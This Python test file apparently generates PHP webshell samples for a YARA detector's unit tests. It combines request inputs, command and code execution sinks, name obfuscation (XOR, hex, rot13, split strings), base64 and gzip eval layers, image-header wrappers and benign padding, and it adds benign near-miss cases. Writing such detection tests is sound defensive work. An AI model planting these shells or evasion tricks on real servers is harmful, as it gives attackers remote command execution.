@@ -1,0 +1,420 @@
+"""Generated PHP webshell cases: input path x sink x transform x wrapper x padding.
+
+Not the full cartesian product: every (input, sink) pair and every (sink, transform) pair that makes
+a working shell is generated once, the other axes rotate, and a set of padded cases puts the shell
+after 50 KB of ordinary code. Telling tokens are written in pieces (``t("ev", "al")``) so this
+source matches no rule; the cases are assembled only in memory.
+"""
+
+from __future__ import annotations
+
+import base64
+import codecs
+import zlib
+from collections.abc import Callable, Iterator
+from itertools import cycle
+
+from tests.unit.detection.yara.webshell_cases import Case, t
+
+# --- telling tokens, in pieces ------------------------------------------------------------------
+EVAL = t("ev", "al")
+ASSERT = t("as", "sert")
+SYSTEM = t("sys", "tem")
+PASSTHRU = t("pass", "thru")
+G = t("$_G", "ET")
+P = t("$_PO", "ST")
+R = t("$_RE", "QUEST")
+C = t("$_CO", "OKIE")
+S = t("$_SER", "VER")
+SESSION = t("$_SES", "SION")
+INPUT = t("php:", "//input")
+B64D = t("base64", "_decode")
+GZI = t("gz", "inflate")
+GZU = t("gz", "uncompress")
+ROT = t("str_", "rot13")
+CF = t("create_", "function")
+
+# --- input paths: a function of the sink statement builder -> PHP body ----------------------------
+Sink = Callable[[str], str]  # expression of the request data -> statements
+
+
+def _direct(expr: str) -> Callable[[Sink], str]:
+    return lambda sink: sink(expr)
+
+
+INPUTS: dict[str, Callable[[Sink], str]] = {
+    "get": _direct(f"{G}['k']"),
+    "post": _direct(f"{P}['k']"),
+    "request": _direct(f"{R}['k']"),
+    "cookie": _direct(f"{C}['k']"),
+    "header": _direct(f"{S}['HTTP_X_K']"),
+    "variable": lambda sink: f"$p = {P}['k'];\n" + sink("$p"),
+    "array": lambda sink: f"$a = array('x' => 1, 'k' => {R}['k']);\n" + sink("$a['k']"),
+    "param": lambda sink: f"function h($c) {{\n    {sink('$c')}\n}}\nh({P}['k']);",
+    "property": lambda sink: f"class K {{ public $c; }}\n$o = new K();\n$o->c = {G}['k'];\n" + sink("$o->c"),
+    "session": lambda sink: f"session_start();\nif (isset({P}['k'])) {{ {SESSION}['k'] = {P}['k']; }}\n"
+    + sink(f"{SESSION}['k']"),
+    "varvar": lambda sink: "$n = '_PO' . 'ST';\n$d = $$n;\n" + sink("$d['k']"),
+    "brace": _direct("${'_PO' . 'ST'}['k']"),
+    "loop": lambda sink: f"foreach ({P} as $key => $v) {{\n    if ($key == 'k') {{ {sink('$v')} }}\n}}",
+    "getenv": _direct(t("get", "env('HTTP_X_K')")),
+    "headers": lambda sink: t("$h = getall", "headers();\n") + sink("$h['X-K']"),
+    "php_input": _direct(f"file_get_contents('{INPUT}')"),
+}
+DIRECT_INPUTS = ("get", "post", "request", "cookie", "header", "getenv", "php_input", "brace")
+
+# --- name transforms: a function name -> PHP expression that yields it -----------------------------
+XOR_KEYS = "!#%&()*+,-/:;<=>?@[]^{|}~"
+
+
+def _split(name: str, pieces: int, shift: int) -> str:
+    cuts = sorted({1 + (shift + i * max(1, len(name) // pieces)) % (len(name) - 1) for i in range(pieces - 1)})
+    parts = [name[a:b] for a, b in zip([0, *cuts], [*cuts, len(name)], strict=True)]
+    return " . ".join(f"'{p}'" for p in parts)
+
+
+def _xor(name: str) -> str:
+    left, right = [], []
+    for i, ch in enumerate(name):
+        for key in XOR_KEYS[i % len(XOR_KEYS) :] + XOR_KEYS:
+            other = chr(ord(ch) ^ ord(key))
+            if 32 < ord(other) < 127 and other not in "'\\$":
+                left.append(key)
+                right.append(other)
+                break
+    return f"'{''.join(left)}' ^ '{''.join(right)}'"
+
+
+def _index(name: str) -> str:
+    alphabet = "zyxwvutsrqponmlkjihgfedcba_"
+    return "($s = '" + alphabet + "') ? " + " . ".join(f"$s[{alphabet.index(ch)}]" for ch in name) + " : ''"
+
+
+NAME_TRANSFORMS: dict[str, Callable[[str, int], str]] = {
+    "split2": lambda n, i: _split(n, 2, i),
+    "split3": lambda n, i: _split(n, 3, i),
+    "split4": lambda n, i: _split(n, 4, i),
+    "split5": lambda n, i: _split(n, 5, i),
+    "strrev": lambda n, i: f"strrev('{n[::-1]}')",
+    "junk": lambda n, i: "str_replace('#@', '', '" + "#@".join(n[j : j + 2] for j in range(0, len(n), 2)) + "')",
+    "strtr": lambda n, i: f"strtr('{n.upper()}', 'ABCDEFGHIJKLMNOPQRSTUVWXYZ', 'abcdefghijklmnopqrstuvwxyz')",
+    "xor": lambda n, i: _xor(n),
+    "not": lambda n, i: '~"' + "".join(f"\\x{255 - ord(ch):02x}" for ch in n) + '"',
+    "chr": lambda n, i: " . ".join((f"chr({ord(ch)})" if i % 2 else f"chr(0x{ord(ch):x})") for ch in n),
+    "hex": lambda n, i: '"' + "".join(f"\\x{ord(ch):02x}" for ch in n) + '"',
+    "octal": lambda n, i: '"' + "".join(f"\\{ord(ch):o}" for ch in n) + '"',
+    "unicode": lambda n, i: '"' + "".join(f"\\u{{{ord(ch):x}}}" for ch in n) + '"',
+    "b64name": lambda n, i: f"{B64D}('{base64.b64encode(n.encode()).decode()}')",
+    "rot13name": lambda n, i: f"{ROT}('{codecs.encode(n, 'rot13')}')",
+    "strindex": lambda n, i: _index(n),
+}
+# transforms of the code as written (any sink): comments between tokens, mixed case
+SYNTAX_TRANSFORMS = ("none", "comments", "case")
+# the whole body encoded and evaluated
+LAYERS = {
+    "b64": lambda body: f"{EVAL}({B64D}('{base64.b64encode(body).decode()}'));",
+    "rot13": lambda body: f"{EVAL}({ROT}('{codecs.encode(body.decode(), 'rot13')}'));",
+    "gzinflate": lambda body: f"{EVAL}({GZI}({B64D}('{base64.b64encode(_deflate(body)).decode()}')));",
+    "gzuncompress": lambda body: f"{EVAL}({GZU}({B64D}('{base64.b64encode(zlib.compress(body)).decode()}')));",
+    "layered": lambda body: LAYERS["gzinflate"](LAYERS["rot13"](LAYERS["b64"](body).encode()).encode()),
+    "b64var": lambda body: f"$c = {B64D}('{base64.b64encode(body).decode()}');\n@{EVAL}($c);",
+}
+
+
+def _deflate(data: bytes) -> bytes:
+    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
+    return packer.compress(data) + packer.flush()
+
+
+# --- sinks ---------------------------------------------------------------------------------------
+# kind: "code" takes PHP code, "cmd" a shell command, "path" a file to include
+# a sink is a function (name expression or None, syntax transform) -> (expression -> statements)
+SinkMaker = Callable[[str | None, str], Sink]
+
+
+def _cased(word: str, syntax: str) -> str:
+    return "".join(ch.upper() if i % 2 else ch for i, ch in enumerate(word)) if syntax == "case" else word
+
+
+def _paren(syntax: str) -> str:
+    return "/* x */ (" if syntax == "comments" else "("
+
+
+def _call(name: str, args: Callable[[str], str]) -> SinkMaker:
+    """A function sink called by its name, or through a variable holding the synthesized name."""
+
+    def make(name_expr: str | None, syntax: str) -> Sink:
+        if name_expr is not None:
+            return lambda e: f"$f = {name_expr};\n@$f({args(e)});"
+        return lambda e: f"@{_cased(name, syntax)}{_paren(syntax)}{args(e)});"
+
+    return make
+
+
+def _callback(shape: Callable[[str, str], str], callee: str) -> SinkMaker:
+    """A callback sink: the dangerous callee is passed by name (plain or synthesized)."""
+
+    def make(name_expr: str | None, syntax: str) -> Sink:
+        ref = name_expr if name_expr is not None else f"'{_cased(callee, syntax)}'"
+        return lambda e: shape(ref, e) if syntax != "comments" else shape(ref, e).replace("(", "/* x */ (", 1)
+
+    return make
+
+
+def _construct(build: Callable[[str, str], str]) -> SinkMaker:
+    def make(name_expr: str | None, syntax: str) -> Sink:
+        return lambda e: build(e, syntax)
+
+    return make
+
+
+def _backtick(e: str, syntax: str) -> str:
+    if e.startswith("$") and "(" not in e and "'" not in e:
+        return f"echo `{e}`;"
+    return f"$c = {e};\necho /* x */ `$c`;" if syntax == "comments" else f"$c = {e};\necho `$c`;"
+
+
+def _include(word: str) -> Callable[[str, str], str]:
+    def build(e: str, syntax: str) -> str:
+        kw = _cased(word, syntax)
+        sep = " /* x */ " if syntax == "comments" else " "
+        if INPUT in e:  # the body itself is the code
+            return f"{kw}{sep}'{INPUT}';"
+        return f"{kw}{sep}'data://text/plain;base64,' . {e};" if word.startswith("req") else f"@{kw}{sep}{e};"
+
+    return build
+
+
+def _creator(name_expr: str | None, syntax: str) -> Sink:
+    head = f"$f = {name_expr};\n$g = $f(" if name_expr is not None else f"$g = {_cased(CF, syntax)}{_paren(syntax)}"
+    return lambda e: head + f"'', {e});\n$g();"
+
+
+XSL = (
+    "$x = new XSLTProcessor();\n$x->register" + "PHPFunctions();\n"
+    "$s = new DOMDocument();\n$s->loadXML('<xsl:stylesheet version=\"1.0\" "
+    'xmlns:xsl="http://www.w3.org/1999/XSL/Transform" xmlns:php="http://php.net/xsl">'
+    "<xsl:template match=\"/\"><xsl:value-of select=\"php:function(\\'' . {ref} . '\\', string(.))\"/>"
+    "</xsl:template></xsl:stylesheet>');\n$x->importStylesheet($s);\n"
+    "$d = new DOMDocument();\n$d->appendChild($d->createElement('c', {e}));\necho $x->transformToXml($d);"
+)
+
+SINKS: dict[str, tuple[str, SinkMaker]] = {
+    "eval": ("code", _construct(lambda e, s: f"@{_cased(EVAL, s)}{_paren(s)}{e});")),
+    "assert": ("code", _call(ASSERT, lambda e: e)),
+    "system": ("cmd", _call(SYSTEM, lambda e: e)),
+    "exec": ("cmd", _call(t("ex", "ec"), lambda e: f"{e}, $out);\necho implode(\"\\n\", $out")),
+    "shell_exec": ("cmd", _call(t("shell", "_exec"), lambda e: e)),
+    "passthru": ("cmd", _call(PASSTHRU, lambda e: e)),
+    "popen": ("cmd", _call(t("po", "pen"), lambda e: f"{e}, 'r'")),
+    "proc_open": ("cmd", _call(t("proc", "_open"), lambda e: f"{e}, array(1 => array('pipe', 'w')), $pipes")),
+    "pcntl_exec": ("cmd", _call(t("pcntl", "_exec"), lambda e: f"'/bin/sh', array('-c', {e})")),
+    "include": ("path", _construct(_include("include"))),
+    "require": ("path", _construct(_include("require_once"))),
+    "backticks": ("cmd", _construct(_backtick)),
+    "preg_replace_e": ("code", _call(t("preg_", "replace"), lambda e: f"'/.*/e', {e}, ''")),
+    "mb_ereg_replace_e": ("code", _call(t("mb_ereg", "_replace"), lambda e: f"'.*', {e}, '', 'e'")),
+    "preg_replace_callback": (
+        "cmd",
+        _callback(lambda ref, e: f"echo preg_replace_callback('/.+/', function ($m) {{ $g = {ref}; return $g($m[0]); }}, {e});", SYSTEM),
+    ),
+    "call_user_func": ("cmd", _callback(lambda ref, e: f"call_user_func({ref}, {e});", SYSTEM)),
+    "call_user_func_array": ("cmd", _callback(lambda ref, e: f"call_user_func_array({ref}, array({e}));", PASSTHRU)),
+    "array_map": ("cmd", _callback(lambda ref, e: f"array_map({ref}, array({e}));", SYSTEM)),
+    "array_filter": ("cmd", _callback(lambda ref, e: f"array_filter(array({e}), {ref});", SYSTEM)),
+    "usort": ("code", _callback(lambda ref, e: f"$arr = array({e}, '1');\nusort($arr, {ref});", ASSERT)),
+    "uasort": ("code", _callback(lambda ref, e: f"$arr = array({e}, '1');\nuasort($arr, {ref});", ASSERT)),
+    "array_walk": ("code", _callback(lambda ref, e: f"$arr = array({e});\narray_walk($arr, {ref});", ASSERT)),
+    "array_udiff": ("code", _callback(lambda ref, e: f"array_udiff(array({e}), array('1'), {ref});", ASSERT)),
+    "array_uintersect": (
+        "code",
+        _callback(lambda ref, e: f"array_uintersect(array({e}), array('1'), {ref});", ASSERT),
+    ),
+    "register_shutdown_function": (
+        "cmd",
+        _callback(lambda ref, e: f"register_shutdown_function({ref}, {e});", SYSTEM),
+    ),
+    "ob_start": ("code", _callback(lambda ref, e: f"ob_start({ref});\necho {e};\nob_end_flush();", ASSERT)),
+    "create_function": ("code", _creator),
+    "closure_from_callable": (
+        "cmd",
+        _callback(lambda ref, e: f"$g = Closure::fromCallable({ref});\n$g({e});", SYSTEM),
+    ),
+    "xslt": ("cmd", _callback(lambda ref, e: XSL.replace("{ref}", ref).replace("{e}", e), SYSTEM)),
+}
+CONSTRUCTS = ("eval", "include", "require", "backticks")  # no name to synthesize
+
+
+def transforms_for(sink: str) -> list[str]:
+    names = [] if sink in CONSTRUCTS else list(NAME_TRANSFORMS)
+    syntax = [s for s in SYNTAX_TRANSFORMS if not (s == "case" and sink == "xslt")]
+    return syntax + names + [f"layer-{name}" for name in LAYERS]
+
+
+# --- wrappers and padding --------------------------------------------------------------------------
+def _wrap(wrapper: str, body: str) -> str:
+    if wrapper == "php":
+        return f"<?php\n{body}\n"
+    if wrapper == "short":
+        return f"<?\n{body}\n?>\n"
+    if wrapper == "echo":
+        return f"<?= ''; {body} ?>\n"
+    if wrapper == "html":
+        return f"<html><head><title>Site</title></head><body>\n<p>Welcome</p>\n<?php\n{body}\n?>\n</body></html>\n"
+    return f"GIF89a\x01\x00\x01\x00\n<?php\n{body}\n?>\n"  # an image header in front
+
+
+WRAPPERS = ("php", "short", "echo", "html", "gif")
+
+
+def benign_code(size: int) -> str:
+    """Ordinary PHP: request handling, PDO, templates, configuration, as a school site has."""
+    parts = ["<?php\n/**\n * Course list for the school site.\n */\n"]
+    i = 0
+    while sum(map(len, parts)) < size:
+        parts.append(
+            f"function course_page_{i}(PDO $db, array $query): string\n{{\n"
+            f"    $page = max(1, (int) ($query['page'] ?? 1));\n"
+            f"    $stmt = $db->prepare('SELECT id, title FROM courses WHERE term = ? LIMIT 20 OFFSET ?');\n"
+            f"    $stmt->execute([$query['term'] ?? '2026a', ($page - 1) * 20]);\n"
+            f"    $rows = $stmt->fetchAll(PDO::FETCH_ASSOC);\n"
+            f"    $html = '';\n"
+            f"    foreach ($rows as $row) {{\n"
+            f"        $html .= '<li>' . htmlspecialchars($row['title'], ENT_QUOTES, 'UTF-8') . '</li>';\n"
+            f"    }}\n"
+            f"    return '<ul class=\"courses-{i}\">' . $html . '</ul>';\n}}\n\n"
+        )
+        i += 1
+    parts.append("echo course_page_0($db, $_GET);\n?>\n")
+    return "".join(parts)
+
+
+PADDING = benign_code(50_000)
+
+
+# --- assembly --------------------------------------------------------------------------------------
+def build(inp: str, sink: str, transform: str, wrapper: str, index: int) -> str:
+    kind, maker = SINKS[sink]
+    callee = {"cmd": SYSTEM, "code": ASSERT}.get(kind, SYSTEM)
+    if transform in NAME_TRANSFORMS:
+        name = callee if sink in CALLBACKS else _sink_name(sink)
+        sink_fn = maker(NAME_TRANSFORMS[transform](name, index), "none")
+    else:
+        syntax = transform if transform in SYNTAX_TRANSFORMS else "none"
+        sink_fn = maker(None, syntax)
+    body = INPUTS[inp](sink_fn)
+    if transform.startswith("layer-"):
+        body = LAYERS[transform[len("layer-") :]](body.encode())
+    return _wrap(wrapper, body)
+
+
+CALLBACKS = {name for name, (_, maker) in SINKS.items() if maker.__qualname__.startswith("_callback")}
+
+
+def _sink_name(sink: str) -> str:
+    return {
+        "assert": ASSERT,
+        "system": SYSTEM,
+        "exec": t("ex", "ec"),
+        "shell_exec": t("shell", "_exec"),
+        "passthru": PASSTHRU,
+        "popen": t("po", "pen"),
+        "proc_open": t("proc", "_open"),
+        "pcntl_exec": t("pcntl", "_exec"),
+        "preg_replace_e": t("preg_", "replace"),
+        "mb_ereg_replace_e": t("mb_ereg", "_replace"),
+        "create_function": CF,
+    }[sink]
+
+
+def technique(inp: str, sink: str, transform: str, padded: bool) -> str:
+    if padded:
+        return "php.padded"
+    if transform.startswith("layer-"):
+        return "php.encoded"
+    if transform in NAME_TRANSFORMS:
+        return "php.name-synthesis"
+    if sink in ("include", "require"):
+        return "php.include"
+    if sink in CALLBACKS or sink in ("preg_replace_e", "mb_ereg_replace_e", "create_function"):
+        return "php.callback"
+    if inp in DIRECT_INPUTS and inp != "brace":
+        return "php.input-to-sink"
+    return "php.indirect-input"
+
+
+# padded shells: the request data reaches the sink in one statement or through one variable
+PADDED_INPUTS = ("post", "get", "cookie", "header", "variable", "php_input", "getenv", "request")
+PADDED_TRANSFORMS = ("none", "comments", "case", "layer-b64", "layer-gzinflate", "layer-layered", "layer-rot13")
+
+
+def _case(inp: str, sink: str, transform: str, wrapper: str, index: int, padded: bool = False) -> Case:
+    text = build(inp, sink, transform, wrapper, index)
+    if padded:
+        text = PADDING + text.replace("GIF89a\x01\x00\x01\x00\n", "")
+    variant = f"input={inp} sink={sink} transform={transform} wrapper={wrapper} padded={padded}"
+    content = text.encode("latin-1") if "GIF89a" in text[:6] else text.encode("utf-8")
+    return Case(technique(inp, sink, transform, padded), variant, "php", f"c{index:04d}.php", content)
+
+
+def hit_cases() -> Iterator[Case]:
+    index = 0
+    wrappers = cycle(WRAPPERS)
+    seen: set[tuple[str, str, str]] = set()
+    # every (input, sink) pair, transforms rotating
+    for s_i, sink in enumerate(SINKS):
+        transforms = transforms_for(sink)
+        for i_i, inp in enumerate(INPUTS):
+            transform = transforms[(s_i + i_i) % len(transforms)]
+            seen.add((inp, sink, transform))
+            yield _case(inp, sink, transform, next(wrappers), index)
+            index += 1
+    # every (sink, transform) pair, inputs rotating
+    inputs = list(INPUTS)
+    for s_i, sink in enumerate(SINKS):
+        for k, transform in enumerate(transforms_for(sink)):
+            inp = inputs[(s_i * 3 + k) % len(inputs)]
+            if (inp, sink, transform) in seen:
+                continue
+            yield _case(inp, sink, transform, next(wrappers), index)
+            index += 1
+    # after 50 KB of ordinary code
+    for s_i, sink in enumerate(SINKS):
+        for k, transform in enumerate(PADDED_TRANSFORMS):
+            if k % 2 and not transform.startswith("layer-"):
+                continue
+            inp = PADDED_INPUTS[(s_i + k) % len(PADDED_INPUTS)]
+            yield _case(inp, sink, transform, next(wrappers), index, padded=True)
+            index += 1
+
+
+# --- near misses: the same words in benign code ----------------------------------------------------
+NEAR_MISSES: dict[str, str] = {
+    "escaped-output": f"<?php\necho htmlspecialchars({G}['q'] ?? '', ENT_QUOTES, 'UTF-8');\n",
+    "pdo-exec": f"<?php\n$id = (int) {P}['id'];\n$pdo->exec('DELETE FROM news WHERE id = ' . $id);\n",
+    "constant-include": f"<?php\nrequire_once __DIR__ . '/config.php';\ninclude 'header.php';\necho (int) {G}['page'];\n",
+    "allowlisted-include": f"<?php\n$pages = ['home', 'news'];\n$p = in_array({G}['p'] ?? '', $pages, true) ? {G}['p'] : 'home';\n"
+    "include __DIR__ . \"/pages/{$p}.php\";\n",
+    "config-base64": f"<?php\n$prefs = json_decode({B64D}({C}['prefs'] ?? 'e30='), true);\n$key = {B64D}('c2Nob29sLXNpdGUta2V5');\n",
+    "trim-map": f"<?php\n$tags = array_map('trim', explode(',', {P}['tags'] ?? ''));\nusort($tags, 'strcmp');\n",
+    "sort-closure": f"<?php\n$dir = {G}['dir'] ?? 'asc';\nusort($rows, function ($a, $b) use ($dir) {{ return $dir === 'asc' ? $a <=> $b : $b <=> $a; }});\n",
+    "template-callback": f"<?php\n$vars = ['name' => 'Li'];\necho preg_replace_callback('/\\{{(\\w+)\\}}/', function ($m) use ($vars) "
+    f"{{ return htmlspecialchars($vars[$m[1]] ?? ''); }}, {P}['tpl'] ?? '');\n",
+    "gzip-buffer": f"<?php\nob_start('ob_gzhandler');\necho 'Hello ' . htmlspecialchars({G}['name'] ?? '');\nob_end_flush();\n",
+    "docblock-backticks": f"<?php\n/**\n * Reads `$page` from the query string; run `composer install` first.\n */\n$page = (int) ({G}['page'] ?? 1);\n",
+    "assert-test": f"<?php\n$n = (int) ({G}['n'] ?? 0);\n{ASSERT}($n >= 0);\necho $n;\n",
+    "hash-compare": f"<?php\nif (hash_equals($token, (string) ({S}['HTTP_X_TOKEN'] ?? ''))) {{ echo 'ok'; }}\n",
+    "json-input": f"<?php\n$data = json_decode(file_get_contents('{INPUT}'), true);\necho json_encode(['ok' => isset($data['id'])]);\n",
+    "session-login": f"<?php\nsession_start();\n{SESSION}['user'] = preg_replace('/[^a-z0-9]/', '', {P}['user'] ?? '');\nheader('Location: /');\n",
+    "dispatch-method": f"<?php\n$action = {G}['action'] ?? 'index';\nif (method_exists($ctl, $action . 'Action')) {{ call_user_func([$ctl, $action . 'Action']); }}\n",
+    "date-format": f"<?php\n$f = 'Y' . '-m-d';\necho date($f, (int) ({G}['ts'] ?? time()));\n",
+    "padded-benign": benign_code(60_000),
+}
+
+
+def cases() -> Iterator[Case]:
+    yield from hit_cases()
+    for name, text in NEAR_MISSES.items():
+        for wrapper in ("plain", "html"):
+            body = text if wrapper == "plain" else "<html><body>\n" + text + "\n?>\n</body></html>\n"
+            yield Case("php.near-miss", f"benign={name} wrapper={wrapper}", "php", f"{name}.php", body.encode(), False)
